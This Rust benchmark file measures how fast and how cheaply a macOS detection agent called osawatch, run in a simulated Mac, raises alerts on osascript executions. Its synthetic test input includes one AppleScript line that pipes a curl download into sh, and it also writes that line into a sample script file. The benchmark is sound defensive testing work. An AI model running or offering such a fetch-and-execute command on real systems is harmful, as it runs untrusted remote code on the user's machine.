//! `cargo bench --bench live`: the macOS executable in the simulated Mac, against its limits.
//!
//! * `latency`: from a connect event to its alert line in the file, each line forced to the disk, while 1,000
//!   programs a second start and end.
//! * `scripts`: the same, each alert of another execution of a script in a file, which is read and described.
//! * `storm`: 10,000 programs a second start and end, for a minute; an alert each second; nothing is lost.
//! * `alerts`: 5,000 programs a second that alert, for ten seconds; each has an alert, or what it lacks is counted.
//! * `memory`: 20,000 live processes, half of them found running, half of them reported.
//! * `busy`: 200 events a second for half a minute: the agent's share of a core, its threads and with the simulator's.
//! * `soak`: a million events, 10,000 a second: the heap after each tenth; the last is to be as the second.
//! * `idle`: nothing happens for ten seconds; what the simulator's threads do is counted in.
//!
//! A run in which an event or a report is lost, or an alert is missing, fails. What full tables evict besides (cases,
//! partial sequences of other rules) the run says and counts.
//!
//! `OSAWATCH_MACSIM` and `OSAWATCH_X86_64` name the simulator and the executable, as `.ci/run` builds them.
#![allow(missing_docs, unreachable_pub, reason = "a benchmark has no readers but its own")]
#![allow(clippy::disallowed_methods, reason = "a benchmark reads the clock")]
#![allow(clippy::print_stdout, clippy::print_stderr, reason = "a benchmark prints what it measured")]

use std::fs::{self, File};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use osawatch::event::Timestamp;
use serde_json::{Value as Json, json};

/// Every start of the agent, with time for its self-test.
const BEGIN: [&str; 3] = [r#"{"wait_es": 5000}"#, r#"{"wait_ntstat": 5000}"#, r#"{"after_ms": 1500}"#];

fn main() {
    let named = |name: &str| std::env::var_os(name).map(PathBuf::from).filter(|path| path.exists());
    let (Some(macsim), Some(executable)) = (named("OSAWATCH_MACSIM"), named("OSAWATCH_X86_64")) else {
        eprintln!("the simulated Mac needs OSAWATCH_MACSIM and OSAWATCH_X86_64: see .ci/run for how to build them");
        return;
    };
    let bench = Bench { macsim, executable };
    println!("{:<52} {:>12} {:>12} {:>8}", "what", "measured", "limit", "ratio");
    let wanted = std::env::args().nth(1).filter(|arg| !arg.starts_with('-'));
    for part in ["latency", "scripts", "storm", "alerts", "memory", "busy", "soak", "idle"] {
        if wanted.as_deref().is_none_or(|wanted| wanted == part) {
            match part {
                "latency" => latency(&bench, "latency", &["osascript", "-e", INLINE]),
                "scripts" => scripts(&bench),
                "storm" => storm(&bench),
                "alerts" => alerts(&bench),
                "memory" => memory(&bench),
                "busy" => busy(&bench),
                "soak" => soak(&bench),
                _ => idle(&bench),
            }
        }
    }
}

fn row(what: &str, measured: f64, limit: f64, unit: &str) {
    println!("{what:<52} {measured:>9.2} {unit:<2} {limit:>9.2} {unit:<2} {:>8.2}", measured / limit);
}

struct Bench {
    macsim: PathBuf,
    executable: PathBuf,
}

/// A run under way, in a folder of its own.
struct Running {
    child: Child,
    folder: tempfile::TempDir,
}

/// What a run left.
struct Ended {
    alerts: Vec<Json>,
    stderr: String,
}

impl Bench {
    fn start(&self, steps: &[String]) -> Running {
        let folder = tempfile::tempdir().expect("a folder can be made");
        let config = format!(
            "[alerts]\nfile = \"{0}/alerts.ndjson\"\nstate_directory = \"{0}\"\n[volume]\nmax_alerts = 0\n",
            folder.path().display()
        );
        fs::write(folder.path().join("config.toml"), config).expect("the configuration can be written");
        fs::write(folder.path().join("script.ndjson"), steps.join("\n")).expect("the script can be written");
        let stderr = File::create(folder.path().join("stderr")).expect("a file can be made");
        let mut command = Command::new(&self.macsim);
        command.args(["--os", "15.1", "--script"]).arg(folder.path().join("script.ndjson")).arg(&self.executable);
        command.args(["run", "--output", "none", "--config"]).arg(folder.path().join("config.toml"));
        let child = command.stdout(Stdio::null()).stderr(stderr).spawn().expect("the simulator starts");
        Running { child, folder }
    }
}

impl Running {
    fn alerts(&self) -> PathBuf {
        self.folder.path().join("alerts.ndjson")
    }

    /// Resident bytes of simulator and agent together.
    fn resident(&self) -> f64 {
        let status = fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap_or_default();
        let kib = status.lines().find_map(|line| line.strip_prefix("VmRSS:")?.trim().strip_suffix(" kB"));
        kib.and_then(|kib| kib.trim().parse::<f64>().ok()).unwrap_or(f64::NAN) * 1024.0
    }

    /// Nanoseconds that the engine, on the main thread, was on a processor.
    fn engine(&self) -> f64 {
        let times = fs::read_to_string(format!("/proc/{0}/task/{0}/schedstat", self.child.id())).unwrap_or_default();
        times.split(' ').next().and_then(|time| time.parse().ok()).unwrap_or(f64::NAN)
    }

    /// Nanoseconds on a processor, and times that a thread went to sleep, of agent and simulator together.
    fn threads(&self) -> (f64, f64) {
        let tasks = fs::read_dir(format!("/proc/{}/task", self.child.id())).expect("the run is under way");
        let numbers = tasks.flatten().map(|task| {
            let read = |name: &str| fs::read_to_string(task.path().join(name)).unwrap_or_default();
            let (times, status) = (read("schedstat"), read("status"));
            let switches = status.lines().find_map(|line| line.strip_prefix("voluntary_ctxt_switches:"));
            let number = |text: &str| text.trim().parse::<f64>().unwrap_or(f64::NAN);
            (times.split(' ').next().map_or(f64::NAN, number), switches.map_or(f64::NAN, number))
        });
        numbers.fold((0.0, 0.0), |sum, (time, switches)| (sum.0 + time, sum.1 + switches))
    }

    /// Nanoseconds that the agent's own threads were on a processor: the main one and those that it named.
    fn agent(&self) -> f64 {
        let tasks = fs::read_dir(format!("/proc/{}/task", self.child.id())).expect("the run is under way");
        let is_own = |task: &Path| {
            let name = fs::read_to_string(task.join("comm")).unwrap_or_default();
            task.ends_with(self.child.id().to_string()) || name.starts_with("osawatch-")
        };
        let times = tasks.flatten().map(|task| task.path()).filter(|task| is_own(task));
        let times = times.map(|task| fs::read_to_string(task.join("schedstat")).unwrap_or_default());
        times.map(|times| times.split(' ').next().and_then(|time| time.parse::<f64>().ok()).unwrap_or(0.0)).sum()
    }

    fn end(mut self) -> Ended {
        let status = self.child.wait().expect("the run can be waited for");
        assert!(status.success(), "the run failed: {}", self.stderr());
        let lines = fs::read_to_string(self.alerts()).unwrap_or_default();
        let alerts = lines.lines().map(|line| serde_json::from_str(line).expect("an alert is JSON")).collect();
        Ended { alerts, stderr: self.stderr() }
    }

    fn stderr(&self) -> String {
        fs::read_to_string(self.folder.path().join("stderr")).unwrap_or_default()
    }
}

impl Ended {
    /// Fails unless nothing was lost, every flow has its process, and there are this many alerts.
    fn check(&self, alerts: usize) {
        let count = |kind: &str| self.alerts.iter().filter(|document| document["event"]["kind"] == kind).count();
        let is_unseen = |loss: &str| !loss.starts_with("table.");
        let lost = self.stderr.lines().filter_map(|line| line.split_once("warning: lost: "));
        let unseen = lost.filter(|(_, losses)| losses.split(", ").any(is_unseen)).count();
        assert_eq!((unseen, count("alert")), (0, alerts), "lost or not alerted: {}", self.stderr);
        assert!(!self.stderr.contains("flows without a known process"), "{}", self.stderr);
    }

    /// What the agent says at its end that it counted of something.
    fn summary(&self, of: &str) -> u64 {
        let end = self.stderr.rsplit_once("stopped: ").map_or("", |(_, end)| end);
        let words: Vec<&str> = end.split_whitespace().map(|word| word.trim_end_matches(',')).collect();
        let number = |at: usize| words.get(at)?.parse().ok();
        let found = words.iter().position(|word| *word == of);
        found.and_then(|at| number(at + 1).or_else(|| number(at.checked_sub(1)?))).unwrap_or(0)
    }

    /// The bytes of heap at each point where the script asked for them, and at the end.
    fn heaps(&self) -> Vec<f64> {
        let lines = self.stderr.lines().filter_map(|line| line.strip_prefix("macsim: the guest's heap: "));
        lines.filter_map(|line| line.split(' ').next()?.parse().ok()).collect()
    }

    /// What an exec costs in the handler: microseconds, the median, and blocks of heap.
    fn handler(&self) -> (f64, f64) {
        let line = self.stderr.lines().find_map(|line| line.strip_prefix("macsim: the handler: "));
        let number = |at: usize| line.and_then(|line| line.split(", ").nth(at)?.split(' ').next()?.parse().ok());
        (number(1).unwrap_or(f64::NAN), number(3).unwrap_or(f64::NAN))
    }

    /// The most bytes of heap that the agent had at once, as the simulator counts them.
    fn heap(&self) -> f64 {
        let line = self.stderr.lines().find_map(|line| line.strip_prefix("macsim: the guest's heap: "));
        let most = line.and_then(|line| line.split(", ").nth(1)?.split(' ').next()?.parse().ok());
        most.unwrap_or(f64::NAN)
    }
}

fn step(text: Json) -> String {
    text.to_string()
}

/// A program of no interest that starts, from the shell with pid 400, and ends.
fn program(pid: u32) -> [Json; 3] {
    let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
    [
        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "child_upid": upid}}),
        json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/clang",
            "args": ["clang", "-O2", "-Wall", "-c", "-o", "/Users/admin/build/objects/module.o", "source/module.c"],
            "cwd": "/Users/admin/build", "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.clang",
            "platform": true, "uid": 501, "upid": upid}}),
        json!({"es": {"type": "exit", "pid": pid, "code": 0}}),
    ]
}

/// A script of one line.
const INLINE: &str = "do shell script \"curl -s https://example.com | sh\"";

/// osascript starts with these arguments, for root, who may read any script, connects at once, and ends.
fn osascript(pid: u32, args: &[&str]) -> Vec<Json> {
    let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
    vec![
        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "child_upid": upid}}),
        json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/osascript",
            "args": args,
            "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.osascript", "platform": true,
            "uid": 0, "gid": 0, "upid": upid}}),
        json!({"ntstat": {"add_tcp": {"id": pid, "pid": pid, "upid": upid, "local": "192.168.1.5:40000", "state": 0}}}),
        json!({"ntstat": {"update": {"id": pid, "remote": "93.184.216.34:443", "state": 2}}}),
        json!({"ntstat": {"remove": {"id": pid}}}),
        json!({"es": {"type": "exit", "pid": pid, "code": 0}}),
    ]
}

fn shell() -> String {
    step(json!({"proc": {"pid": 400, "path": "/bin/zsh", "pidversion": 900, "signing_id": "com.apple.zsh",
        "platform": true, "uid": 501, "upid": 4400}}))
}

fn script(steps: impl IntoIterator<Item = Json>) -> Vec<String> {
    let begin = BEGIN.map(str::to_owned);
    std::iter::once(shell()).chain(begin).chain(steps.into_iter().map(step)).collect()
}

/// Follows a file as a shipper does, and says for each of so many alerts when it stood there.
fn follow(path: &Path, alerts: usize, patience: Duration) -> Vec<(Duration, String)> {
    let now = || SystemTime::now().duration_since(UNIX_EPOCH).expect("it is after 1970");
    let (end, mut seen) = (now() + patience, Vec::with_capacity(alerts));
    let file = loop {
        match File::open(path) {
            Ok(file) => break file,
            Err(_) if now() < end => std::thread::sleep(Duration::from_millis(1)),
            Err(error) => panic!("no alert file: {error}"),
        }
    };
    let (mut reader, mut line) = (BufReader::new(file), String::new());
    while seen.len() < alerts && now() < end {
        if reader.read_line(&mut line).expect("the alert file can be read") == 0 || !line.ends_with('\n') {
            std::thread::sleep(Duration::from_micros(100));
            continue;
        }
        let line = std::mem::take(&mut line);
        if line.contains(r#""kind":"alert""#) {
            seen.push((now(), line));
        }
    }
    seen
}

/// The script is 4 KB of lines that hold what scripts hold.
fn scripts(bench: &Bench) {
    let folder = tempfile::tempdir().expect("a folder can be made");
    let file = folder.path().join("update.applescript");
    let line = |at| format!("set path{at} to (POSIX path of (path to home folder)) & \"Library/Caches/{at}\"\n");
    let text: String = (0..50).map(line).chain([INLINE.to_owned()]).collect();
    fs::write(&file, text).expect("a script can be written");
    latency(bench, "with scripts in files", &["osascript", &file.display().to_string()]);
}

fn latency(bench: &Bench, what: &str, args: &[&str]) {
    const ALERTS: u64 = 1000;
    let mut steps: Vec<Json> = (1..10).flat_map(|at| program(at * 100_000)).collect();
    steps.extend(osascript(1_000_000, args));
    let group = json!({"repeat": ALERTS, "over_ms": 10_000, "steps": steps});
    let running = bench.start(&script([group, json!({"after_ms": 1000, "signal": "TERM"})]));
    let seen = follow(&running.alerts(), ALERTS as usize, Duration::from_secs(40));
    running.end().check(ALERTS as usize);
    let mut latencies: Vec<f64> = seen
        .iter()
        .map(|(at, line)| {
            let alert: Json = serde_json::from_str(line).expect("an alert is JSON");
            let connected = alert["osawatch"]["sequence"]["events"][1]["@timestamp"].as_str().expect("a time");
            let connected = Timestamp::parse(connected).expect("a time").nanoseconds();
            (at.as_nanos() as f64 - connected as f64) / 1e6
        })
        .collect();
    latencies.sort_by(f64::total_cmp);
    let quantile = |q: f64| latencies[((latencies.len() - 1) as f64 * q) as usize];
    row(&format!("{what}, median, at 1,000 execs/s"), quantile(0.5), 1.0, "ms");
    row(&format!("{what}, 99th percentile"), quantile(0.99), 5.0, "ms");
}

fn storm(bench: &Bench) {
    const SECONDS: u32 = 60;
    let second = |at: u32| {
        let programs = json!({"repeat": 10_000, "over_ms": 1000, "steps": program(1_000_000 + at * 100_000)});
        std::iter::once(programs).chain(osascript(500 + at, &["osascript", "-e", INLINE]))
    };
    let steps = (0..SECONDS).flat_map(second).chain([json!({"after_ms": 1000, "signal": "TERM"})]);
    let running = bench.start(&script(steps));
    std::thread::sleep(Duration::from_secs(u64::from(SECONDS) + 2));
    let engine = running.engine();
    let ended = running.end();
    ended.check(SECONDS as usize);
    println!("{:<52} {:>9}", "storm, 10,000 execs/s for a minute: events lost", 0);
    row("  heap, at most", ended.heap() / 1_048_576.0, 64.0, "MB");
    row("  the engine thread's share of a core", engine / 1e9 / f64::from(SECONDS) * 100.0, 100.0, "%");
    let (median, blocks) = ended.handler();
    row("  the handler for an exec, median, the simulator in it", median, 3.0, "us");
    row("  blocks of heap that it takes", blocks, 1.0, "");
}

fn alerts(bench: &Bench) {
    const SECONDS: u32 = 10;
    const EACH: u32 = 5000;
    let programs = |at: u32| osascript(1_000_000 + at * 100_000, &["osascript", "-e", INLINE]);
    let second = |at| json!({"repeat": EACH, "over_ms": 1000, "steps": programs(at)});
    let steps = (0..SECONDS).map(second).chain([json!({"after_ms": 10_000, "signal": "TERM"})]);
    let ended = bench.start(&script(steps)).end();
    let (started, alerted) = (u64::from(SECONDS * EACH), ended.summary("alerts"));
    // An execution, a flow or a partial sequence that is counted as lost is of one program, which may have lost others.
    let counted: u64 = ["process:", "table.executions:", "table.sequences:", "table.flows_not_waited_for:"]
        .map(|loss| ended.summary(loss))
        .iter()
        .sum();
    let missing = started.saturating_sub(alerted);
    assert!(missing <= counted, "{missing} alerts are missing: {}", ended.stderr);
    println!("{:<52} {:>9}", "alerts, 5,000 programs/s for ten seconds: missing", missing);
    println!("{:<52} {:>9}", "  programs, flows and sequences counted as lost", counted);
    println!("{:<52} {:>9.2} MB", "  heap, at most", ended.heap() / 1_048_576.0);
}

fn memory(bench: &Bench) {
    let process = json!({"pid": 100_000, "pidversion": 200_001, "upid": 300_000, "parent_pid": 400,
        "path": "/Applications/Example.app/Contents/Frameworks/Example Helper.app/Contents/MacOS/Example Helper",
        "args": ["Example Helper", "--type=renderer", "--user-data-dir=/Users/admin/Library/Application Support/Example",
            "--lang=en-US", "--num-raster-threads=4", "--enable-zero-copy", "--field-trial-handle=1718379636"],
        "signing_id": "com.example.helper", "uid": 501});
    let mut told = process.clone();
    for (name, value) in [("pid", json!(500_000)), ("pidversion", json!(700_001)), ("upid", json!(800_000))] {
        told[name] = value;
    }
    told["type"] = "exec".into();
    let mut steps = vec![step(json!({"repeat": 10_000, "proc": process}))];
    let exec = json!({"repeat": 10_000, "over_ms": 2000, "es": told});
    steps.extend(script([exec, json!({"after_ms": 3000, "signal": "TERM"})]));
    let running = bench.start(&steps);
    std::thread::sleep(Duration::from_millis(5500));
    let resident = running.resident();
    let ended = running.end();
    ended.check(0);
    row("memory, heap with 20,000 processes", ended.heap() / 1_048_576.0, 32.0, "MB");
    println!("{:<52} {:>9.2} MB", "  resident, the simulator counted in", resident / 1_048_576.0);
}

fn busy(bench: &Bench) {
    const TIME: Duration = Duration::from_secs(20);
    // A fork, an exec and an exit each.
    let programs = json!({"repeat": 2000, "over_ms": 30_000, "steps": program(1_000_000)});
    let running = bench.start(&script([programs, json!({"after_ms": 1000, "signal": "TERM"})]));
    std::thread::sleep(Duration::from_secs(5));
    let (agent, all) = (running.agent(), running.threads().0);
    std::thread::sleep(TIME);
    let (agent, all) = (running.agent() - agent, running.threads().0 - all);
    running.end().check(0);
    let percent = |nanoseconds: f64| nanoseconds / TIME.as_nanos() as f64 * 100.0;
    row("busy, 200 events/s: share of a core", percent(agent), 1.0, "%");
    println!("{:<52} {:>9.2} %", "  the simulator's threads counted in", percent(all));
}

fn soak(bench: &Bench) {
    const TENTHS: u32 = 10;
    const PROGRAMS: u32 = 33_334;
    let tenth = |at: u32| {
        let programs = json!({"repeat": PROGRAMS, "over_ms": 10_000, "steps": program(1_000_000 + at * 100_000)});
        [programs, json!({"after_ms": 500}), json!({"report_heap": true})]
    };
    let steps = (0..TENTHS).flat_map(tenth).chain([json!({"after_ms": 1000, "signal": "TERM"})]);
    let ended = bench.start(&script(steps)).end();
    ended.check(0);
    let heaps = ended.heaps();
    assert_eq!(heaps.len() as u32, TENTHS + 1, "{}", ended.stderr);
    let shown: Vec<String> = heaps[..TENTHS as usize].iter().map(|heap| format!("{:.2}", heap / 1_048_576.0)).collect();
    println!("{:<52} {}", "soak, a million events: MB after each tenth", shown.join(" "));
    row("  the last tenth against the second", heaps[9] / heaps[1] * 100.0, 102.0, "%");
}

fn idle(bench: &Bench) {
    const TIME: Duration = Duration::from_secs(10);
    let running = bench.start(&script([json!({"after_ms": 12_000, "signal": "TERM"})]));
    std::thread::sleep(Duration::from_secs(3));
    let before = running.threads();
    std::thread::sleep(TIME);
    let after = running.threads();
    running.end().check(0);
    row("idle, processor time in 10 s", (after.0 - before.0) / 1e6, 10.0, "ms");
    row("idle, wake-ups in 10 s", after.1 - before.1, 10.0, "");
}
